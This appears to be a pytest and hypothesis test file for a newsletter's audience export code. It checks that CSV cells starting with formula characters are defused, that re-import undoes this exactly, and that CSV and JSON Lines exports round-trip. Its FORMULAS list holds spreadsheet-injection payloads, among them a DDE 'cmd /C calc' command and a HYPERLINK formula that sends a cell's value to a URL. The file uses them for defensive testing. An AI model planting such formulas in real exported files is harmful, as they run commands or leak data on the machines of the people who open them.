from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.audience.cells import defused, restored
from newsletter.audience.exports import write_csv, write_json_lines
from newsletter.audience.fields import Terms
from newsletter.audience.rows import people_file
from newsletter.domain.address import Address
from newsletter.domain.audience import (
    Entry,
    Field,
    Frequency,
    ListStanding,
    Suppression,
)

if TYPE_CHECKING:
    from pathlib import Path

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
)


SINCE = datetime(2026, 1, 31, 10, 0, tzinfo=UTC)
LISTS = (ListStanding("daily", SINCE), ListStanding("weekly", SINCE))
TERMS = Terms(datetime(2026, 11, 27, 9, tzinfo=UTC), frozenset({"daily", "weekly", "gems"}), (), {})


def _person(name: str, **attributes: object) -> Entry:
    address = f"{name}@example.org"
    return Entry(Address(address, address.lower()), attributes, LISTS)  # type: ignore[arg-type]


def _read(path: Path) -> object:
    with people_file(path) as file:
        (row,) = file.rows(TERMS)
    return row


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_leaves_in_a_form_that_runs(formula: str) -> None:
    assert defused(formula) == f"'{formula}"
    assert restored(defused(formula)) == formula


@given(st.text(alphabet="'=+-@\t\r\uff1da1 ", max_size=6))
def test_defusing_is_undone_exactly_and_leaves_nothing_to_run(cell: str) -> None:
    assert restored(defused(cell)) == cell
    assert defused(cell)[:1] not in tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def test_csv_has_a_row_a_person_and_the_attributes_asked_for() -> None:
    file = io.StringIO(newline="")
    people = [_person("ana", city="Lyon", visits=-3, vip=True), _person("+ben", note="=1+1")]
    assert write_csv(people, (), ["city", "note", "visits", "vip"], file) == 2
    assert file.getvalue() == (
        "email,lists,city,note,visits,vip\n"
        "ana@example.org,daily 2026-01-31T10:00:00Z;weekly 2026-01-31T10:00:00Z,Lyon,,-3,true\n"
        "'+ben@example.org,daily 2026-01-31T10:00:00Z;weekly 2026-01-31T10:00:00Z,,'=1+1,,\n"
    )


def test_raw_csv_is_not_defused() -> None:
    file = io.StringIO(newline="")
    write_csv([_person("+ben", note="=1+1")], (), ["note"], file, raw=True)
    assert list(csv.reader(file.getvalue().splitlines()))[1] == [
        "+ben@example.org",
        "daily 2026-01-31T10:00:00Z;weekly 2026-01-31T10:00:00Z",
        "=1+1",
    ]


def test_nobody_is_exported_as_a_header_or_as_nothing() -> None:
    table, lines = io.StringIO(newline=""), io.StringIO()
    assert write_csv([], (), ["city"], table) == 0
    assert write_json_lines([], lines) == 0
    assert table.getvalue() == "email,lists,city\n"
    assert lines.getvalue() == ""


texts = st.text(
    st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=20
).filter(lambda text: text == text.strip())
formulas = st.builds(
    lambda sign, rest: f"{sign}{rest}".strip(), st.sampled_from("'=+-@\uff1d"), texts
)
values = st.one_of(texts, formulas)
names = st.sampled_from(("city", "note", "shop_2"))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(names, values), st.sampled_from(("ana", "+b", "-c", "'d", "'+e", "O'Fee")))
def test_csv_comes_back_as_it_went(tmp_path: Path, attributes: dict[str, str], name: str) -> None:
    person = _person(name, **attributes)
    with (tmp_path / "people.csv").open("w", newline="", encoding="utf-8") as file:
        write_csv([person], (), sorted(attributes), file)
    assert _read(tmp_path / "people.csv") == person


numbers = st.one_of(st.integers(-(10**14), 10**14), st.floats(-1e14, 1e14), st.booleans())


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(names, st.one_of(values, numbers)))
def test_json_lines_come_back_as_they_went_types_included(
    tmp_path: Path, attributes: dict[str, object]
) -> None:
    person = _person("ana", **attributes)
    with (tmp_path / "people.jsonl").open("w", encoding="utf-8") as file:
        write_json_lines([person], file)
    row = _read(tmp_path / "people.jsonl")
    assert isinstance(row, Entry)
    assert row == person
    assert list(map(type, row.attributes.values())) == list(map(type, attributes.values()))


WHOLE = Entry(
    Address("Ana@example.org", "ana@example.org"),
    {"role": "press"},
    (ListStanding("daily", SINCE), ListStanding("gems", SINCE, SINCE.replace(month=5))),
    name="=Ana",
    language="pt-BR",
    time_zone="Europe/Lisbon",
    tags=("Basel 2026", "vip"),
    frequency=Frequency.MONTHLY,
    paused_until=datetime(2027, 1, 1, tzinfo=UTC),
    tracking=False,
    suppression=Suppression("soft bounces", SINCE),
)


def test_fields_in_use_have_columns_of_their_own() -> None:
    file = io.StringIO(newline="")
    write_csv([WHOLE], set(Field), ["role"], file)
    assert list(csv.reader(file.getvalue().splitlines())) == [
        [
            *("email", "name", "language", "time_zone", "tags", "lists", "unsubscribed"),
            *("suppressed", "frequency", "paused_until", "tracking", "role"),
        ],
        [
            *("Ana@example.org", "'=Ana", "pt-BR", "Europe/Lisbon", "Basel 2026;vip"),
            "daily 2026-01-31T10:00:00Z",
            "gems 2026-01-31T10:00:00Z/2026-05-31T10:00:00Z",
            "soft bounces 2026-01-31T10:00:00Z",
            *("monthly", "2027-01-01T00:00:00Z", "false", "press"),
        ],
    ]


def test_all_that_is_known_of_a_person_comes_back(tmp_path: Path) -> None:
    with (tmp_path / "a.csv").open("w", newline="", encoding="utf-8") as file:
        write_csv([WHOLE], set(Field), ["role"], file)
    with (tmp_path / "a.jsonl").open("w", encoding="utf-8") as file:
        write_json_lines([WHOLE], file)
    assert _read(tmp_path / "a.csv") == WHOLE
    assert _read(tmp_path / "a.jsonl") == WHOLE
